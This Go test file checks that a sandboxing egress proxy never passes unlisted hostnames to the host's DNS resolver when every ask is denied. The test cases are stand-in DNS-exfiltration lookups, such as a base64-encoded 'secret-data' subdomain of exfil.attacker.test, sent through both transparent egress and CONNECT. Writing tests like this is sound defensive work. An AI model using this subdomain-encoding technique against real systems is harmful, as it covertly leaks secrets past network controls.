package netns

import (
	"bufio"
	"context"
	"net"
	"net/netip"
	"sync"
	"testing"
	"time"

	"corral.dev/corral/ask"
)

// TestAskBeforeResolving: with an ask channel that always
// denies, a name no rule lists is never looked up on the host's resolver
// (DNS exfiltration), through transparent egress and CONNECT alike.
func TestAskBeforeResolving(t *testing.T) {
	var mu sync.Mutex
	var looked []string
	res := &stubResolver{answer: func(_ int64, host string) ([]netip.Addr, error) {
		mu.Lock()
		looked = append(looked, host)
		mu.Unlock()
		return addrs(testNet3), nil
	}}
	var asked int
	dns := NewFakeDNS()
	orig := &originals{m: map[netip.AddrPort]netip.AddrPort{}}
	tp := startProxy(t, Config{Engine: testEngine(t, "api.allowed.test:443"), Resolver: res, DNS: dns, Originals: orig,
		Ask: func(ctx context.Context, q ask.Question) ask.Answer {
			mu.Lock()
			asked++
			mu.Unlock()
			return ask.Answer{Reply: ask.Deny, By: "test"}
		}})
	// transparent: the command resolved the name through the fake DNS
	fake, _ := dns.Address("c2VjcmV0LWRhdGE.exfil.attacker.test")
	local := netip.MustParseAddrPort("127.0.0.1:47123")
	orig.mu.Lock()
	orig.m[local] = netip.AddrPortFrom(fake, 443)
	orig.mu.Unlock()
	d := net.Dialer{LocalAddr: net.TCPAddrFromAddrPort(local), Timeout: time.Second}
	c, err := d.Dial("tcp", tp.addr)
	if err != nil {
		t.Logf("transparent: %v", err)
	} else {
		c.SetDeadline(time.Now().Add(3 * time.Second))
		bufio.NewReader(c).ReadByte()
		c.Close()
	}
	time.Sleep(200 * time.Millisecond)
	// CONNECT
	r, _, _ := exchange(t, tp.addr, connectHead("more-secret-bytes.exfil.attacker.test:443"))
	t.Logf("CONNECT status %d", r.status)
	mu.Lock()
	defer mu.Unlock()
	t.Logf("asked %d times; the host resolver was asked for %q", asked, looked)
	if len(looked) > 0 {
		t.Errorf("unlisted names reached the host's resolver although every answer was deny: %q", looked)
	}
}
